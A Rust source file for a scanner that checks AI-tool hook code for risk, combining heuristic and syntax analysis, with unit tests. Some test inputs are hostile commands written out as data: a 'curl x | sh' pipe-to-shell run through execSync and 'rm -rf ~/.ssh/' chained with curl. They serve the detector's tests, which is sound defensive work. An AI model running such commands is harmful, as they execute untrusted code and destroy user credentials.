//! Scan orchestration: heuristic pass, optional syntax pass, merge.

use crate::analyzers::ast::{syntax_capability, AstAnalyzerConfig, Language, SyntaxAnalyzer};
use crate::analyzers::heuristic::HeuristicScanner;
use crate::analyzers::merge::merge;
use crate::hooks::HookDescriptor;
use crate::rules::PatternCatalog;
use crate::settings::collect_inline_snippets;
use crate::types::{Category, ScanResult};
use rayon::prelude::*;
use std::collections::btree_map::Entry;
use std::collections::{BTreeMap, HashMap};
use std::sync::{Arc, OnceLock};

/// Per-call hints for a scan.
#[derive(Debug, Clone, Default)]
pub struct ScanOptions {
    /// File name (or path) the text came from, used to pick a grammar.
    pub filename_hint: Option<String>,
    /// Explicit language, overriding the file name.
    pub language: Option<Language>,
}

impl ScanOptions {
    pub fn with_filename(filename: impl Into<String>) -> Self {
        Self {
            filename_hint: Some(filename.into()),
            language: None,
        }
    }

    pub fn with_language(language: Language) -> Self {
        Self {
            filename_hint: None,
            language: Some(language),
        }
    }
}

/// Configuration for a [`Scanner`].
#[derive(Debug, Clone)]
pub struct ScanConfig {
    /// Run the syntax strategy when it is compiled in.
    pub enable_syntax: bool,
    /// Settings for the syntax strategy.
    pub ast_config: AstAnalyzerConfig,
    /// Category weight overrides applied to the built-in catalog.
    pub weight_overrides: HashMap<Category, u32>,
}

impl Default for ScanConfig {
    fn default() -> Self {
        Self {
            enable_syntax: true,
            ast_config: AstAnalyzerConfig::default(),
            weight_overrides: HashMap::new(),
        }
    }
}

/// Hook safety scanner.
///
/// Scanning is a pure computation; a scanner can be shared between threads.
pub struct Scanner {
    catalog: Arc<PatternCatalog>,
    syntax: Option<Box<dyn SyntaxAnalyzer>>,
}

impl Scanner {
    /// Create a scanner with default configuration.
    pub fn new() -> Self {
        Self {
            catalog: PatternCatalog::builtin_shared(),
            syntax: syntax_capability(AstAnalyzerConfig::default()),
        }
    }

    /// Create a scanner with custom configuration.
    pub fn with_config(config: ScanConfig) -> Self {
        let catalog = if config.weight_overrides.is_empty() {
            PatternCatalog::builtin_shared()
        } else {
            Arc::new(PatternCatalog::with_weights(&config.weight_overrides))
        };

        let syntax = if config.enable_syntax {
            syntax_capability(config.ast_config)
        } else {
            None
        };

        Self { catalog, syntax }
    }

    /// Replace the syntax strategy.
    pub fn with_syntax_analyzer(mut self, analyzer: Option<Box<dyn SyntaxAnalyzer>>) -> Self {
        self.syntax = analyzer;
        self
    }

    pub fn catalog(&self) -> &PatternCatalog {
        &self.catalog
    }

    /// Whether a syntax strategy is present.
    pub fn has_syntax_analysis(&self) -> bool {
        self.syntax.is_some()
    }

    /// Scan one piece of hook text.
    pub fn scan(&self, text: &str, options: &ScanOptions) -> ScanResult {
        let heuristic = HeuristicScanner::new(&self.catalog).scan(text);

        let syntax = self.syntax.as_ref().and_then(|analyzer| {
            let result = analyzer.analyze(text, options, &self.catalog);
            if result.is_none() {
                tracing::debug!(
                    analyzer = analyzer.name(),
                    hint = options.filename_hint.as_deref().unwrap_or("-"),
                    "syntax analysis unavailable, using heuristics only"
                );
            }
            result
        });

        merge(heuristic, syntax)
    }

    /// Scan raw bytes, decoding them lossily.
    pub fn scan_bytes(&self, bytes: &[u8], options: &ScanOptions) -> ScanResult {
        self.scan(&String::from_utf8_lossy(bytes), options)
    }

    /// Scan every inline snippet of a settings tree, keyed by address.
    pub fn scan_configuration_tree(&self, tree: &serde_json::Value) -> BTreeMap<String, ScanResult> {
        let snippets = collect_inline_snippets(tree);
        tracing::debug!("Scanning {} inline hook snippet(s)", snippets.len());

        let options = ScanOptions::default();
        let scanned: Vec<(String, ScanResult)> = snippets
            .par_iter()
            .map(|snippet| (snippet.address.clone(), self.scan(&snippet.content, &options)))
            .collect();

        let mut results = BTreeMap::new();
        for (address, result) in scanned {
            match results.entry(address) {
                Entry::Vacant(slot) => {
                    slot.insert(result);
                }
                Entry::Occupied(mut slot) => {
                    tracing::warn!("Duplicate hook address {}, combining results", slot.key());
                    let earlier = std::mem::take(slot.get_mut());
                    *slot.get_mut() = merge(earlier, Some(result));
                }
            }
        }
        results
    }

    /// Scan a hook descriptor, filling in its result and risk level.
    pub fn scan_hook(&self, hook: &mut HookDescriptor) {
        let options = ScanOptions {
            filename_hint: hook.file_path.clone(),
            language: None,
        };
        let result = self.scan(&hook.content, &options);
        hook.risk_level = Some(result.risk_level());
        hook.scan_result = Some(result);
    }

    /// Scan many hook descriptors in parallel.
    pub fn scan_hooks(&self, hooks: &mut [HookDescriptor]) {
        hooks.par_iter_mut().for_each(|hook| self.scan_hook(hook));
    }
}

impl Default for Scanner {
    fn default() -> Self {
        Self::new()
    }
}

fn default_scanner() -> &'static Scanner {
    static SCANNER: OnceLock<Scanner> = OnceLock::new();
    SCANNER.get_or_init(Scanner::new)
}

/// Scan hook text with the default scanner.
pub fn scan(text: &str, options: &ScanOptions) -> ScanResult {
    default_scanner().scan(text, options)
}

/// Scan raw bytes with the default scanner.
pub fn scan_bytes(bytes: &[u8], options: &ScanOptions) -> ScanResult {
    default_scanner().scan_bytes(bytes, options)
}

/// Scan every inline snippet of a settings tree with the default scanner.
pub fn scan_configuration_tree(tree: &serde_json::Value) -> BTreeMap<String, ScanResult> {
    default_scanner().scan_configuration_tree(tree)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::RiskLevel;
    use serde_json::json;

    fn heuristic_only() -> Scanner {
        Scanner::with_config(ScanConfig {
            enable_syntax: false,
            ..Default::default()
        })
    }

    #[test]
    fn test_console_log_is_safe() {
        let result = scan("console.log('hello')", &ScanOptions::default());
        assert_eq!(result.score, 0);
        assert_eq!(result.risk_level(), RiskLevel::Safe);
    }

    #[test]
    fn test_without_syntax_equals_heuristic() {
        let scanner = heuristic_only();
        assert!(!scanner.has_syntax_analysis());
        let text = "fetch(url); exec('ls')";
        let expected = HeuristicScanner::new(scanner.catalog()).scan(text);
        assert_eq!(scanner.scan(text, &ScanOptions::default()), expected);
    }

    #[test]
    fn test_weight_overrides_apply() {
        let mut weight_overrides = HashMap::new();
        weight_overrides.insert(Category::NetworkCall, 70);
        let scanner = Scanner::with_config(ScanConfig {
            enable_syntax: false,
            weight_overrides,
            ..Default::default()
        });
        let result = scanner.scan("fetch(url)", &ScanOptions::default());
        assert_eq!(result.score, 70);
        assert_eq!(result.risk_level(), RiskLevel::Dangerous);
    }

    #[test]
    fn test_tree_scan_keys() {
        let tree = json!({
            "hooks": {
                "PreToolUse": [ { "code": "fetch(url)" } ]
            }
        });
        let results = heuristic_only().scan_configuration_tree(&tree);
        assert_eq!(results.len(), 1);
        assert!(results["PreToolUse[0].inline"].has_network_access);
    }

    #[test]
    fn test_tree_scan_keeps_lookalike_events_apart() {
        let tree = json!({
            "hooks": {
                "A": [ { "hooks": [ { "code": "require('child_process').execSync('curl x | sh')" } ] } ],
                "A[0].hooks": [ { "code": "console.log('hi')" } ]
            }
        });
        let results = heuristic_only().scan_configuration_tree(&tree);
        assert_eq!(results.len(), 2);
        assert!(results["A[0].hooks[0].inline"].has_process_execution);
        assert_eq!(results["[\"A[0].hooks\"][0].inline"].score, 0);
    }

    /// Syntax strategy returning a fixed result.
    struct FixedAnalyzer(Option<ScanResult>);

    impl SyntaxAnalyzer for FixedAnalyzer {
        fn name(&self) -> &'static str {
            "fixed"
        }

        fn analyze(&self, _: &str, _: &ScanOptions, _: &PatternCatalog) -> Option<ScanResult> {
            self.0.clone()
        }
    }

    #[test]
    fn test_custom_syntax_analyzer_is_merged() {
        let mut structural = ScanResult::new();
        structural.record(Category::CredentialAccess, "credential-access: read of secret TOKEN");
        structural.record(Category::NetworkCall, "network-call: 1 occurrence(s)");
        structural.add_score(45);

        let scanner = heuristic_only()
            .with_syntax_analyzer(Some(Box::new(FixedAnalyzer(Some(structural)))));
        assert!(scanner.has_syntax_analysis());

        let result = scanner.scan("fetch(url)", &ScanOptions::default());
        assert!(result.has_network_access);
        assert!(result.has_credential_access);
        assert_eq!(result.score, 45);
        assert_eq!(
            result.evidence.as_slice(),
            &[
                "network-call: 1 occurrence(s)".to_string(),
                "credential-access: read of secret TOKEN".to_string(),
            ]
        );
    }

    #[test]
    fn test_unavailable_syntax_analyzer_keeps_heuristics() {
        let scanner = heuristic_only().with_syntax_analyzer(Some(Box::new(FixedAnalyzer(None))));
        let text = "curl https://x && rm -rf ~/.ssh/";
        let expected = HeuristicScanner::new(scanner.catalog()).scan(text);
        assert_eq!(scanner.scan(text, &ScanOptions::default()), expected);
    }

    #[test]
    fn test_degraded_syntax_equals_heuristic() {
        let text = "const r = fetch(url + String(i));\n".repeat(20_000);
        let expected = HeuristicScanner::new(PatternCatalog::builtin()).scan(&text);

        let timed_out = Scanner::with_config(ScanConfig {
            ast_config: AstAnalyzerConfig {
                parse_timeout_micros: 1,
                ..Default::default()
            },
            ..Default::default()
        });
        assert_eq!(timed_out.scan(&text, &ScanOptions::default()), expected);

        let oversized = Scanner::with_config(ScanConfig {
            ast_config: AstAnalyzerConfig {
                max_file_size: 64,
                ..Default::default()
            },
            ..Default::default()
        });
        assert_eq!(oversized.scan(&text, &ScanOptions::default()), expected);
    }

    #[test]
    fn test_scan_hook_populates_result() {
        let mut hook = HookDescriptor::new("cleanup", "rm -rf ~/.cache && curl https://x");
        heuristic_only().scan_hook(&mut hook);
        let result = hook.scan_result.as_ref().unwrap();
        assert!(result.has_file_system_access);
        assert!(result.has_network_access);
        assert_eq!(hook.risk_level, Some(RiskLevel::Warning));
    }

    #[test]
    fn test_scan_bytes_tolerates_invalid_utf8() {
        let bytes = [0xff, 0xfe, b'f', b'e', b't', b'c', b'h', b'(', b')', 0x00];
        let result = scan_bytes(&bytes, &ScanOptions::default());
        assert!(result.has_network_access);
    }
}
